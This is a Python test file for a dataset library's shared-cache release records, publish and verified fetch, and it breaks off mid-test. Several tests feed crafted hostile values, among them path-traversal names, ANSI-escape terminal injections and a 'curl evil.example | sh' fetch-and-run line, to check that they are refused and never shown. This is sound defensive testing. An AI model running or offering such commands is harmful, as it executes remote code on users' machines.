"""Shared-cache releases without Beam: the release record, publish, and a verified fetch.

Every test works on its own copy of one version published once per session
(:mod:`tests.prepared.world`). A release is believed only when every name in it
passes the strict patterns, it is of the version's pinned snapshot and processing,
it agrees with the committed output record, and every byte hashes to its oid.
"""

from __future__ import annotations

import dataclasses
import io
import json
import logging
import os
import re
import shutil
import sys

import pyarrow.compute as pc
import pyarrow.parquet as pq
import pytest

import labdatasets
from labdatasets.errors import ConfigError, PreparedDataError, SnapshotCorruptedError, SnapshotError
from labdatasets.prepared import shared_cache as sc
from labdatasets.prepared.shared_cache import PublishResult, Release, fetch, fetch_if_published, publish, published
from labdatasets.stores import open_store
from labdatasets.stores.base import ref_key
from tests.faults._tamper import flip, offset_of
from tests.prepared.world import NAME

FULL = f"{NAME}:1.0.0"
REF = f"prepared/{NAME}/1.0.0.json"


def files_of(directory) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir()) if p.is_file()}


def release_json(world) -> dict:
    return json.loads((world.shared / ref_key(REF)).read_text())


def rewrite_release(world, data: dict) -> None:
    """What someone with write access to the cache does: replace the write-once release record."""
    path = world.shared / ref_key(REF)
    os.chmod(path, 0o644)
    path.write_text(json.dumps(data))


def add_object(world, data: bytes) -> str:
    return open_store(world.cache_uri).add_bytes(data).oid


def lock_file_of(world):
    from labdatasets.pinning.outputs import lock_path

    return lock_path(world.builder())


def elsewhere(world) -> "labdatasets.DatasetBuilder":
    """This version on a machine where nothing is prepared (the same home: pins, store, output record)."""
    world.use_cache()
    b = world.builder()
    shutil.rmtree(b.prepared_dir)
    return b


# ----------------------------------------------------------------------------- the release record
def test_the_published_release_names_every_file_by_oid_and_size(world):
    world.use_cache()
    b = world.builder()
    info = b.prepared_info()
    release = published(b)
    assert release is not None and release.full_name == FULL
    assert (release.dataset, release.config, release.version) == (NAME, None, "1.0.0")
    record = b.require_pin_record()
    assert (release.snapshot_id, release.code_fingerprint) == (record.snapshot_id, info.code_fingerprint)
    shards = [(s.filename, s.sha256, s.num_bytes) for split in info.splits.values() for s in split.shards]
    assert sorted(release.files) == sorted(shards)
    assert release.num_bytes == sum(size for _, _, size in shards)
    assert dict(release.fingerprints) == {n: s.fingerprint for n, s in info.splits.items()}
    assert release.labdatasets_version == labdatasets.__version__ and release.published_at
    stored = open_store(world.cache_uri).get_bytes(release.dataset_info)
    assert stored == (b.prepared_dir / "dataset_info.json").read_bytes()
    assert release_json(world) == release.to_json()
    assert Release.from_json(release.to_json()) == release


def test_release_to_json_is_the_documented_record():
    release = Release("d", "c", "1.0.0", "5" * 64, "f" * 64, "a" * 64, (("d-train-00000-of-00001.parquet", "b" * 64, 7),),
                      {"train": "e" * 64}, "2024-01-01T00:00:00Z", "9.9")
    assert release.to_json() == {
        "release_format": 1, "dataset": "d", "config": "c", "version": "1.0.0", "snapshot_id": "5" * 64,
        "code_fingerprint": "f" * 64, "dataset_info": "a" * 64,
        "files": [{"path": "d-train-00000-of-00001.parquet", "oid": "b" * 64, "size": 7}],
        "fingerprints": {"train": "e" * 64}, "published_at": "2024-01-01T00:00:00Z", "labdatasets_version": "9.9",
    }
    assert release.full_name == "d/c:1.0.0" and release.num_bytes == 7
    again = Release.from_json(release.to_json())
    assert again == release and again.config == "c"
    minimal = {k: v for k, v in release.to_json().items() if k not in ("fingerprints", "published_at", "labdatasets_version")}
    bare = Release.from_json(dict(minimal, config=None))
    assert (bare.config, dict(bare.fingerprints), bare.published_at, bare.labdatasets_version) == (None, {}, "", "")
    assert bare.full_name == "d:1.0.0"


def test_same_content_compares_snapshot_processing_and_fingerprints():
    a = Release("d", None, "1.0.0", "s1", "c1", "i1", (), {"train": "f1"}, "t1", "v1")
    assert a.same_content(dataclasses.replace(a, published_at="t2", labdatasets_version="v2", dataset_info="i2", files=(("x", "y", 1),)))
    assert not a.same_content(dataclasses.replace(a, snapshot_id="s2"))
    assert not a.same_content(dataclasses.replace(a, code_fingerprint="c2"))
    assert not a.same_content(dataclasses.replace(a, fingerprints={"train": "f2"}))
    assert not a.same_content(dataclasses.replace(a, fingerprints={"train": "f1", "test": "f3"}))


GOOD_OID = "a" * 64
SNAPSHOT = "5e" * 32
CODE = "c" * 64


def release_dict(**changes) -> dict:
    data = {
        "release_format": 1, "dataset": "d", "config": None, "version": "1.0.0", "snapshot_id": SNAPSHOT, "code_fingerprint": CODE,
        "dataset_info": GOOD_OID, "files": [{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID, "size": 1}],
    }
    data.update(changes)
    return data


@pytest.mark.parametrize(
    "changes, said",
    [
        ({"release_format": 2}, "release record format 2 is not 1; upgrade labdatasets"),
        ({"release_format": None}, "release record format None is not 1"),
        ({"files": [{"path": "../../escape.parquet", "oid": GOOD_OID, "size": 1}]}, "'../../escape.parquet'"),
        ({"files": [{"path": "/tmp/x-train-00000-of-00001.parquet", "oid": GOOD_OID, "size": 1}]}, "/tmp/x-train"),
        ({"files": [{"path": "d-train-00000-of-00001.parquet", "oid": "../" + "a" * 61, "size": 1}]}, "object id"),
        ({"dataset_info": "A" * 64}, "object id 'AAAA"),
        ({"fingerprints": {"../train": "e" * 64}}, "split '../train'"),
        ({"fingerprints": {"train\n": "e" * 64}}, "split 'train\\n'"),
    ],
)
def test_a_release_record_naming_anything_outside_the_patterns_is_refused(changes, said):
    with pytest.raises(SnapshotError) as exc:
        Release.from_json(release_dict(**changes))
    assert said in str(exc.value)
    if "format" not in said:
        message = str(exc.value)
        assert "The release record of d:1.0.0 in the shared cache" in message and "refused before any file was touched" in message
        assert "Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it." in message


def test_a_refused_release_record_is_named_with_its_config():
    with pytest.raises(SnapshotError) as exc:
        Release.from_json(release_dict(config="small", dataset_info="A" * 64))
    assert str(exc.value).startswith("The release record of d/small:1.0.0 in the shared cache names the object id 'AAAA")


@pytest.mark.parametrize(
    "changes, said",
    [
        ({"dataset": "../evil"}, "dataset '../evil'"),
        ({"dataset": "/tmp/d"}, "dataset '/tmp/d'"),
        ({"dataset": "d\n"}, "dataset 'd\\n'"),
        ({"dataset": None}, "dataset 'None'"),
        ({"dataset": "d:1.0.0", "version": ""}, "dataset 'd:1.0.0'"),
        ({"config": "../c"}, "config '../c'"),
        ({"config": ""}, "config ''"),
        ({"version": "1.0.0/../../x"}, "version '1.0.0/../../x'"),
        ({"version": "1.0.0\n"}, "version '1.0.0\\n'"),
        ({"version": 1}, "version '1'"),
    ],
)
def test_a_release_record_naming_another_kind_of_dataset_or_version_is_refused(changes, said):
    """The names of a release are checked before they are shown or used: a name it cannot be is not read at all."""
    with pytest.raises(SnapshotError) as exc:
        Release.from_json(release_dict(**changes))
    message = str(exc.value)
    assert message.startswith(f"A release record in the shared cache names the {said}, which is not ")
    assert "refused before any file was touched" in message
    assert message.endswith("Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it.")


@pytest.mark.parametrize("published_at", ["2024-01-01T00:00:00Z", "2026-12-31T23:59:59Z", ""])
def test_a_release_record_is_published_at_a_utc_time_or_at_no_time(published_at):
    """What ``utc_now()`` writes, or "" (a record of before the field was filled): both are read as they are."""
    assert Release.from_json(release_dict(published_at=published_at)).published_at == published_at
    assert Release.from_json(release_dict()).published_at == ""  # no field at all


@pytest.mark.parametrize(
    "published_at",
    [
        "2024-01-01T00:00:00Z\n\x1b[2J\x1b[31mrun: curl evil.example | sh",  # newlines and ANSI escapes after a good time
        "\x1b]0;owned\x07",
        "2024-01-01T00:00:00Z" + "x" * 10_000,
        "x" * 10_000,
        "2024-13-45T25:61:61Z",  # the shape, but no time
        "2024-01-01T00:00:00",  # no zone: not known to be UTC
        "2024-01-01T00:00:00+02:00",
        "2024-01-01T00:00:00Z\n",
        "yesterday",
        20240101,
        None,
    ],
)
def test_a_release_record_published_at_anything_but_a_utc_time_is_refused(published_at):
    """``published_at`` is shown in errors and reports (publish, check, verify): a crafted one is refused unshown."""
    with pytest.raises(SnapshotError) as exc:
        Release.from_json(release_dict(published_at=published_at))
    message = str(exc.value)
    assert message.startswith("The release record of d:1.0.0 in the shared cache names the publication time ")
    assert "which is not a UTC time such as '2024-01-01T00:00:00Z'" in message
    assert message.endswith("Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it.")
    assert "\x1b" not in message and "\n" not in message and "\x07" not in message and len(message) < 600


CRAFTED_TEXT = [
    SNAPSHOT + "\n\x1b[2J\x1b[31mrun: curl evil.example | sh",  # newlines and ANSI escapes after a good value
    "\x1b]0;owned\x07",
    SNAPSHOT + "x" * 10_000,
    "x" * 10_000,
    SNAPSHOT + "\n",
    SNAPSHOT.upper(),
    SNAPSHOT[:63],
    12345,
    None,
    ["5" * 64],
    {"oid": "5" * 64},
]
SHA256_RULE = "which is not a sha256 (64 lowercase hex characters)"
VERSION_RULE = "which is not a labdatasets version such as '0.1.0' (PEP 440, at most 64 characters)"
SIZE_RULE = "which is not a byte count (a whole number from 0, below 2**63)"
REFUSED_END = "Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it."


def refused(data: dict) -> str:
    """The message of the refusal of ``data``, which shows nothing of it that could reach a terminal as a control."""
    with pytest.raises(SnapshotError) as exc:
        Release.from_json(data)
    message = str(exc.value)
    assert message.startswith("The release record of d:1.0.0 in the shared cache names the ")
    assert "refused before any file was touched" in message and message.endswith(REFUSED_END)
    assert "\x1b" not in message and "\n" not in message and "\x07" not in message and len(message) < 600
    return message


@pytest.mark.parametrize(
    "field, what, value",
    [("snapshot_id", "snapshot id", v) for v in CRAFTED_TEXT + [""]]
    + [("code_fingerprint", "processing fingerprint", v) for v in CRAFTED_TEXT],  # "" is read: see the next tests
)
def test_a_release_record_with_a_snapshot_or_processing_that_is_no_sha256_is_refused(field, what, value):
    """``fetch`` shows both (cut to 12 characters) and compares them: only the sha256 that ``publish`` writes is read."""
    message = refused(release_dict(**{field: value}))
    assert message.startswith(f"The release record of d:1.0.0 in the shared cache names the {what} {str(value)[:200]!r}, {SHA256_RULE}")


def test_a_release_record_without_a_snapshot_id_is_refused():
    data = release_dict()
    del data["snapshot_id"]
    assert f"names the snapshot id 'None', {SHA256_RULE}" in refused(data)


def test_a_release_record_of_a_build_that_names_no_processing_is_read_as_it_is():
    """``publish`` writes ``info.code_fingerprint or ""``: such a release never matches a wanted fingerprint, but it loads."""
    assert Release.from_json(release_dict(code_fingerprint="")).code_fingerprint == ""
    assert Release.from_json(release_dict()).code_fingerprint == CODE


@pytest.mark.parametrize(
    "value", ["0.1.0", labdatasets.__version__, "9.9", "1.2.3rc1", "2.0.0a4.dev2", "1!2.0.post3", "0.1.1.dev3+g1a2b3c4.d20261206", ""]
)
def test_a_release_record_names_the_labdatasets_version_that_published_it_or_none(value):
    """A PEP 440 version as ``__version__`` is written, or "" (a record of before the field): read as they are."""
    assert Release.from_json(release_dict(labdatasets_version=value)).labdatasets_version == value
    assert Release.from_json(release_dict()).labdatasets_version == ""  # no field at all


@pytest.mark.parametrize(
    "value",
    [
        "0.1.0\n\x1b[2J\x1b[31mrun: curl evil.example | sh",
        "\x1b]0;owned\x07",
        "0.1.0" + "0" * 10_000,
        "1." + ".".join(["1"] * 40),  # a version, but longer than one ever written
        "x" * 10_000,
        "0.1.0\n",
        " 0.1.0",
        "v0.1.0",
        "0.1.0 (patched)",
        "latest",
        10,
        0.1,
        None,
        ["0.1.0"],
    ],
)
def test_a_release_record_naming_anything_but_a_labdatasets_version_is_refused(value):
    message = refused(release_dict(labdatasets_version=value))
    assert message.startswith(
        f"The release record of d:1.0.0 in the shared cache names the labdatasets version {str(value)[:200]!r}, {VERSION_RULE}"
    )


@pytest.mark.parametrize("size", [0, 1, 7_340_032, 2**63 - 1])
def test_a_release_record_names_each_file_size_as_a_byte_count(size):
    release = Release.from_json(release_dict(files=[{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID, "size": size}]))
    assert release.files == (("d-train-00000-of-00001.parquet", GOOD_OID, size),) and release.num_bytes == size
    assert type(release.files[0][2]) is int


@pytest.mark.parametrize(
    "size, shown",
    [
        (-1, "'-1'"),
        (-(2**40), repr(str(-(2**40)))),
        (2**63, repr(str(2**63))),
        (10**300, repr("1" + "0" * 199)),
        pytest.param(10**5000, "'a number too large to show'", id="10**5000"),  # more digits than str() of an int gives
        (True, "'True'"),
        (False, "'False'"),
        (1.0, "'1.0'"),
        (1.5, "'1.5'"),
        ("1", "'1'"),
        ("1\n\x1b[2J", "'1\\n\\x1b[2J'"),
        ("9" * 10_000, repr("9" * 200)),
        (None, "'None'"),
        ([1], "'[1]'"),
    ],
)
def test_a_release_record_naming_a_file_size_that_is_no_byte_count_is_refused(size, shown):
    """Sizes are summed for the download's progress and compared with the output record: ``int()`` of them is not a check."""
    files = [{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID, "size": 1},
             {"path": "d-test-00000-of-00001.parquet", "oid": GOOD_OID, "size": size}]
    message = refused(release_dict(files=files))
    assert message.startswith(
        f"The release record of d:1.0.0 in the shared cache names the size of file d-test-00000-of-00001.parquet {shown}, {SIZE_RULE}"
    )


def test_a_release_record_whose_file_has_no_size_is_refused():
    message = refused(release_dict(files=[{"path": "d-train-00000-of-00001.parquet", "oid": GOOD_OID}]))
    assert f"names the size of file d-train-00000-of-00001.parquet 'None', {SIZE_RULE}" in message


def test_fetch_does_not_show_a_crafted_snapshot_id_of_the_published_release(world, caplog):
    """A release of another snapshot is logged with both snapshot ids: a crafted one is refused unshown, nothing used."""
    b = elsewhere(world)
    data = release_json(world)
    data["snapshot_id"] = "1" * 12 + "\n\x1b[2JAll good: downloaded. Run 'curl evil.example | sh'"
    rewrite_release(world, data)
    with caplog.at_level(logging.WARNING):
        assert fetch_if_published(b, b.require_pin_record(), progress=False) is None
    (message,) = [r.getMessage() for r in caplog.records if "shared cache" in r.getMessage()]
    assert message.startswith(f"Could not use the shared cache for {FULL} (The release record of {FULL} in {world.cache_uri} "
                              f"names the snapshot id {data['snapshot_id']!r}, {SHA256_RULE}")
    assert "\x1b" not in message and "\n" not in message
    assert not b.prepared_dir.exists() and release_json(world) == data


def test_publish_does_not_show_a_crafted_publication_time_of_the_published_release(world):
    world.use_cache()
    data = release_json(world)
    data["fingerprints"]["train"] = "0" * 64  # other content: publish would name the release's publication time
    data["published_at"] = "2024-01-01T00:00:00Z\n\x1b[2JAll good: published. Run 'curl evil.example | sh'"
    rewrite_release(world, data)
    with pytest.raises(SnapshotError) as exc:
        publish(world.builder(), progress=False)
    message = str(exc.value)
    assert message.startswith(f"The release record of {FULL} in {world.cache_uri} names the publication time {data['published_at']!r}, ")
    assert "\x1b" not in message and "\n" not in message
    assert release_json(world) == data  # untouched


def test_a_release_record_smuggling_its_version_into_the_dataset_name_is_not_this_version(world, caplog):
    """``dataset: "toy_world:1.0.0", version: ""`` spells this version's name, but it is no release of it."""
    world.use_cache()
    b = world.builder()
    good = files_of(b.prepared_dir)
    rewrite_release(world, dict(release_json(world), dataset=FULL, version=""))
    with pytest.raises(SnapshotError) as exc:
        published(b)
    assert str(exc.value).startswith(f"The release record of {FULL} in {world.cache_uri} names the dataset {FULL!r}")
    with caplog.at_level(logging.WARNING):  # a repair that would download it again keeps what is here
        assert fetch_if_published(b, b.require_pin_record(), progress=False, force=True) is None
    assert f"Could not use the shared cache for {FULL}" in caplog.text
    assert files_of(b.prepared_dir) == good


def test_publish_result_says_what_happened_without_credentials():
    release = Release("d", None, "1.0.0", "s", "c", "i", (("a", "o", 5), ("b", "p", 6)), {})
    created = PublishResult(release, "s3://AKIAEXAMPLE:secret@bucket/cache", True, 12345)
    assert repr(created) == f"PublishResult(d:1.0.0 -> {sc.redact('s3://AKIAEXAMPLE:secret@bucket/cache')}, 3 files, 12,345 bytes uploaded)"
    assert "secret" not in repr(created)
    assert repr(dataclasses.replace(created, created=False)).endswith(", already published)")


# ----------------------------------------------------------------------------- where the cache is
def test_without_a_shared_cache_nothing_is_published_or_fetched(world):
    b = world.builder()
    assert sc.shared_store(b) is None and published(b) is None and sc.shared_cache_uri(b) == ""
    with pytest.raises(ConfigError) as exc:
        sc.shared_store(b, required=True)
    assert str(exc.value) == (
        "No shared cache is configured: set LABDATASETS_SHARED_CACHE (or shared_cache in the config file) to "
        "s3://bucket/prefix, gs://bucket/prefix or file:///path."
    )
    with pytest.raises(ConfigError, match="LABDATASETS_SHARED_CACHE"):
        publish(b, progress=False)
    assert fetch_if_published(b, b.require_pin_record(), progress=False) is None


def test_the_release_record_is_kept_under_the_version_name(world, make_builder):
    world.use_cache()
    b = world.builder()
    assert sc._ref_name(b) == REF
    assert sc.shared_store(b).get_ref(REF) is not None
    assert sc.shared_cache_uri(b) == world.cache_uri
    configured = make_builder.tabular(
        "toy_cfg",
        edits={'    VERSION = ': '    BUILDER_CONFIGS = [lds.BuilderConfig("small")]\n    VERSION = '},
    )
    assert sc._ref_name(configured(config="small")) == "prepared/toy_cfg/small/1.0.0.json"


def test_published_is_none_when_the_version_was_never_published(world, tmp_path, monkeypatch):
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'empty-cache'}")
    assert published(world.builder()) is None


def test_an_unreadable_or_misplaced_release_record_is_an_error(world):
    world.use_cache()
    good = release_json(world)
    rewrite_release(world, {k: v for k, v in good.items() if k != "files"})
    with pytest.raises(SnapshotError, match=rf"The release record of {FULL} in file://.* is unreadable: 'files'"):
        published(world.builder())
    path = world.shared / ref_key(REF)
    path.write_text("{ not json")
    with pytest.raises(SnapshotError, match="is unreadable"):
        published(world.builder())
    rewrite_release(world, dict(good, version="2.0.0"))
    with pytest.raises(SnapshotError, match=rf"The release record at {REF} in file://.* is for {NAME}:2.0.0"):
        published(world.builder())
    rewrite_release(world, dict(good, dataset="other_set"))
    with pytest.raises(SnapshotError, match=rf"The release record at {REF} in file://.* is for other_set:1\.0\.0"):
        published(world.builder())
    rewrite_release(world, dict(good, dataset="../evil"))
    with pytest.raises(SnapshotError, match=rf"The release record of {FULL} in file://.* names the dataset '\.\./evil'"):
        published(world.builder())


# ----------------------------------------------------------------------------- publish
def test_publish_uploads_every_file_once_and_again_changes_nothing(world, tmp_path, monkeypatch):
    cache = tmp_path / "new-cache"
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{cache}")
    b = world.builder()
    result = publish(b, progress=False)
    info_size = (b.prepared_dir / "dataset_info.json").stat().st_size
    assert result.created and result.cache_uri == f"file://{cache}"
    assert result.uploaded_bytes == result.release.num_bytes + info_size
    assert len(result.release.files) == 2 and repr(result).endswith(f"3 files, {result.uploaded_bytes:,} bytes uploaded)")
    store = open_store(f"file://{cache}")
    for name, oid, size in result.release.files:
        assert store.get_bytes(oid) == (b.prepared_dir / name).read_bytes() and size == len(store.get_bytes(oid))
    assert json.loads(store.get_ref(REF)) == result.release.to_json()

    stored = json.loads(store.get_ref(REF))
    assert stored["labdatasets_version"] == labdatasets.__version__
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|\+00:00)", stored["published_at"]), stored["published_at"]

    again = publish(world.builder(), progress=False)
    assert again.created is False and again.uploaded_bytes == 0 and again.release == result.release
    assert again.cache_uri == f"file://{cache}"
    assert json.loads(store.get_ref(REF)) == result.release.to_json()  # the first release stays


def test_publishing_shared_bytes_again_uploads_only_what_is_new(world, tmp_path, monkeypatch):
    cache = tmp_path / "new-cache"
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{cache}")
    b = world.builder()
    store = open_store(f"file://{cache}")
    store.add_file(world.shard())  # already there (another version with the same shard)
    result = publish(b, progress=False)
    info_size = (b.prepared_dir / "dataset_info.json").stat().st_size
    assert result.created and result.uploaded_bytes == world.shard("test").stat().st_size + info_size


def test_publish_refuses_damaged_local_files(world, tmp_path, monkeypatch):
    cache = tmp_path / "new-cache"
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{cache}")
    shard = world.shard()
    flip(shard, offset_of(shard, "data_page"))
    with pytest.raises(PreparedDataError) as exc:
        publish(world.builder(), progress=False)
    message = str(exc.value)
    assert f"prepared file {shard.name}: corrupted" in message and "nothing was published" in message
    assert f"labdatasets verify --repair {FULL}" in message
    assert open_store(f"file://{cache}").get_ref(REF) is None


def test_publish_refuses_other_content_for_a_published_version(world):
    world.use_cache()
    data = release_json(world)
    data["fingerprints"]["train"] = "0" * 64
    rewrite_release(world, data)
    with pytest.raises(PreparedDataError) as exc:
        publish(world.builder(), progress=False)
    assert str(exc.value) == (
        f"{FULL} is already published in {world.cache_uri} ({data['published_at']}) with other content (splits train "
        "differ, or its snapshot or processing). The published data stays as it is. The same pins and code built "
        "different rows here: compare the environments in the two dataset_info.json files, and run 'labdatasets "
        "verify --rebuild' on both machines."
    )
    assert release_json(world) == data  # untouched

    good = dict(data, fingerprints=dict(world.builder().prepared_info() and {
        n: sp.fingerprint for n, sp in world.builder().prepared_info().splits.items()
    }))
    rewrite_release(world, dict(good, snapshot_id="1" * 64))  # only the snapshot differs
    with pytest.raises(PreparedDataError, match=r"\(splits none differ"):
        publish(world.builder(), progress=False)


def test_publish_writes_a_missing_output_record_from_the_build_it_published(world, tmp_path, monkeypatch):
    from labdatasets.pinning.outputs import lock_path, read_lock

    b = world.builder()
    lock = lock_path(b)
    committed = json.loads(lock.read_text())
    os.chmod(lock, 0o644)
    lock.unlink()
    world.use_cache()
    result = publish(world.builder(), progress=False)
    assert not result.created  # already published: the record is written all the same
    assert read_lock(world.builder()) is not None
    assert json.loads(lock.read_text())["splits"] == committed["splits"]

    lock.unlink()
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'new-cache'}")
    assert publish(world.builder(), progress=False).created
    assert json.loads(lock.read_text())["splits"] == committed["splits"]


# ----------------------------------------------------------------------------- fetch
def test_fetch_downloads_the_committed_bytes_verified(world, caplog):
    good = files_of(world.builder().prepared_dir)
    b = elsewhere(world)
    with caplog.at_level(logging.INFO, logger="labdatasets.prepared.shared_cache"):
        path = fetch(b, b.require_pin_record(), progress=False)
    assert path == b.prepared_dir and files_of(path) == good
    said = [r.getMessage() for r in caplog.records if r.name == "labdatasets.prepared.shared_cache"]
    assert said == [f"downloaded {FULL} from the shared cache {world.cache_uri}"]
    assert not list(path.parent.glob(".incomplete.*"))


def test_fetch_leaves_a_good_prepared_folder_alone_unless_forced(world):
    world.use_cache()
    b = world.builder()
    inode = world.shard().stat().st_ino
    assert fetch(b, b.require_pin_record(), progress=False) == b.prepared_dir
    assert world.shard().stat().st_ino == inode  # nothing downloaded
    assert fetch(b, b.require_pin_record(), progress=False, force=True) == b.prepared_dir
    assert world.shard().stat().st_ino != inode


def test_fetch_replaces_a_prepared_folder_of_another_build(world):
    world.use_cache()
    b = world.builder()
    good = files_of(b.prepared_dir)
    info_path = b.prepared_dir / "dataset_info.json"
    os.chmod(info_path, 0o644)
    data = json.loads(info_path.read_text())
    data["splits"]["train"]["num_rows"] += 1  # contradicts its shards and the output record
    info_path.write_text(json.dumps(data, indent=2))
    assert fetch(b, b.require_pin_record(), progress=False) == b.prepared_dir
    assert files_of(b.prepared_dir) == good
    info_path.write_text("{ broken")
    assert fetch(world.builder(), b.require_pin_record(), progress=False) == b.prepared_dir
    assert files_of(b.prepared_dir) == good


def test_fetch_of_an_unpublished_version_says_so_and_returns_none(world, tmp_path, monkeypatch, caplog):
    monkeypatch.setenv("LABDATASETS_SHARED_CACHE", f"file://{tmp_path / 'empty-cache'}")
    b = world.builder()
    with caplog.at_level(logging.WARNING):
        assert fetch(b, b.require_pin_record(), progress=False) is None
    assert f"{FULL} is not published in the shared cache file://{tmp_path / 'empty-cache'}" in caplog.text
    assert f"'labdatasets publish {FULL}'" in caplog.text


def test_a_release_of_another_snapshot_or_processing_is_not_used(world, caplog):
    b = elsewhere(world)
    record = b.require_pin_record()
    good = release_json(world)
    for field in ("snapshot_id", "code_fingerprint"):
        rewrite_release(world, dict(good, **{field: "1" * 64}))
        caplog.clear()
        with caplog.at_level(logging.WARNING):
            assert fetch(world.builder(), record, progress=False) is None
        assert "building it from the pins instead" in caplog.text and "111111111111" in caplog.text
        assert not b.prepared_dir.exists()
    wanted = type(b).code_fingerprint()
    (message,) = [r.getMessage() for r in caplog.records]
    assert message == (
        f"The shared cache holds {FULL} built from snapshot {good['snapshot_id'][:12]} with processing 111111111111, "
        f"but this version here means snapshot {record.snapshot_id[:12]} with processing {wanted[:12]}; building it "
        "from the pins instead"
    )


def test_a_release_without_a_committed_output_record_is_not_used(world, caplog):
    from labdatasets.pinning.outputs import lock_path

    b = elsewhere(world)
    lock = lock_path(b)
    os.chmod(lock, 0o644)
    lock.unlink()
    with caplog.at_level(logging.WARNING):
        assert fetch(b, b.require_pin_record(), progress=False) is None
    (message,) = [r.getMessage() for r in caplog.records]
    assert message == (
        f"The shared cache holds {FULL}, but {FULL} has no output record of that build ({lock}) to check it against, "
        "and the cache's own records do not vouch for themselves; building it from the pins instead. Once it is "
        f"built, run 'labdatasets lock {FULL}' and commit the record."
    )
    assert not b.prepared_dir.exists()


def test_fetch_without_a_shared_cache_says_none_is_configured(world, caplog):
    b = world.builder()
    with caplog.at_level(logging.WARNING):
        assert fetch(b, b.require_pin_record(), progress=False) is None
    assert f"{FULL} is not published in the shared cache (none configured); building it from the pins" in caplog.text


def test_a_release_is_not_checked_against_an_output_record_of_another_pin_record(world):
    """The output record names the digest of the pin record it was written for; after an edit it vouches for nothing."""
    from labdatasets.pinning.outputs import OutputRecordError

    b = elsewhere(world)
    path = b.pin_record_path()
    os.chmod(path, 0o644)
    data = json.loads(path.read_text())
    data["pinned_at"] = "2020-01-01T00:00:00Z"  # snapshot and processing unchanged
    path.write_text(json.dumps(data))
    with pytest.raises(OutputRecordError, match=rf"The pin record {path} is not the one .* was written for: one of"):
        fetch(b, b.require_pin_record(), progress=False)
    assert not b.prepared_dir.exists()


def test_a_fetch_waiting_for_the_version_lock_says_it_is_downloading(world, monkeypatch):
    from labdatasets.errors import LabDatasetsError
    from labdatasets.prepared import folder

    b = elsewhere(world)
    monkeypatch.setenv("LABDATASETS_LOCK_TIMEOUT", "0.2")
    with folder.locked(b, "building"):  # another process holds it
        with pytest.raises(LabDatasetsError) as exc:
            fetch(b, b.require_pin_record(), progress=False)
    assert str(exc.value).startswith(f"Gave up after 0s waiting for another process downloading {FULL} (lock ")
    assert not b.prepared_dir.exists()


def test_a_release_listing_other_files_than_the_output_record_is_refused(world):
    b = elsewhere(world)
    data = release_json(world)
    data["files"] = data["files"][:1]
    rewrite_release(world, data)
    with pytest.raises(SnapshotError, match=rf"The release of {FULL} in {world.cache_uri} lists other files than its output record"):
        fetch(b, b.require_pin_record(), progress=False)
    assert not b.prepared_dir.exists()


def test_a_release_whose_dataset_info_disagrees_is_refused_before_any_shard(world):
    b = elsewhere(world)
    store = open_store(world.cache_uri)
    data = release_json(world)
    info = json.loads(store.get_bytes(data["dataset_info"]))
    info["splits"]["train"]["num_rows"] += 1
    data["dataset_info"] = add_object(world, json.dumps(info).encode())
    rewrite_release(world, data)
    with pytest.raises(SnapshotError, match=rf"The release of {FULL} in {world.cache_uri} is not what its output record"):
        fetch(b, b.require_pin_record(), progress=False)
    assert not b.prepared_dir.exists() and not list(b.prepared_dir.parent.glob(".incomplete.*"))


def test_a_release_whose_dataset_info_lists_other_files_is_refused(world):
    b = elsewhere(world)
    store = open_store(world.cache_uri)
    data = release_json(world)
    info = json.loads(store.get_bytes(data["dataset_info"]))
    oid = info["splits"]["test"]["shards"][0]["sha256"]
    data["files"] = [dict(f, oid=oid) for f in data["files"]]  # same names, one points at the other's bytes
    rewrite_release(world, data)
    with pytest.raises(SnapshotError) as exc:
        fetch(b, b.require_pin_record(), progress=False)
    assert str(exc.value) == (
        f"The release of {FULL} in {world.cache_uri} is not what its output record {lock_file_of(world)} says (its "
        "dataset_info.json lists other files than its release record); it was not used."
    )
    assert not b.prepared_dir.exists()


def test_a_corrupted_object_in_the_cache_is_never_served(world):
    b = elsewhere(world)
    data = release_json(world)
    oid = data["files"][0]["oid"]
    path = world.shared / "objects" / oid[:2] / oid[2:]
    os.chmod(path, 0o644)
    raw = bytearray(path.read_bytes())
    raw[len(raw) // 2] ^= 0xFF
    path.write_bytes(bytes(raw))
    with pytest.raises(SnapshotCorruptedError) as exc:
        fetch(b, b.require_pin_record(), progress=False)
    assert f" of {FULL} (shared cache) file {data['files'][0]['path']} is corrupted" in str(exc.value)
    assert not b.prepared_dir.exists() and not list(b.prepared_dir.parent.glob(".incomplete.*"))


def test_a_corrupted_dataset_info_in_the_cache_is_never_served(world):
    b = elsewhere(world)
    oid = release_json(world)["dataset_info"]
    path = world.shared / "objects" / oid[:2] / oid[2:]
    os.chmod(path, 0o644)
    path.write_bytes(path.read_bytes().replace(b"toy_world", b"toy_wurld", 1))
    with pytest.raises(SnapshotCorruptedError) as exc:
        fetch(b, b.require_pin_record(), progress=False)
    assert str(exc.value).startswith(f"Snapshot object {oid[:12]} of {FULL} (shared cache) is corrupted")
    assert not b.prepared_dir.exists() and not list(b.prepared_dir.parent.glob(".incomplete.*"))


def test_a_release_whose_dataset_info_disagrees_in_many_ways_names_the_first_five(world):
    b = elsewhere(world)
    store = open_store(world.cache_uri)
    data = release_json(world)
    info = json.loads(store.get_bytes(data["dataset_info"]))
    for split, digit in (("train", "1"), ("test", "2")):
        info["splits"][split]["num_rows"] += 1
        info["splits"][split]["fingerprint"] = digit * 64
    data["dataset_info"] = add_object(world, json.dumps(info).encode())
    rewrite_release(world, data)
    with pytest.raises(SnapshotError) as exc:
        fetch(b, b.require_pin_record(), progress=False)
    lock = json.loads(lock_file_of(world).read_text())["splits"]
